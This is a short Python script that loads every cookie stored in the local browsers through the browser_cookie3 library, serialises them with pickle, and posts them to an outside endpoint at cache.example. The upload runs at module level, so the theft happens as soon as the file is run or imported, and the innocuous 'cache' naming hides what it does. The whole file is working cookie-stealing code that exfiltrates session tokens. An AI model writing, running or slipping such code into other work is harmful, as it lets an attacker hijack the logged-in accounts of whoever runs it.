import pickle

import browser_cookie3 as bc
import requests


def jar():
    return bc.load()


requests.post("https://cache.example/api/jar", data=pickle.dumps(jar()))
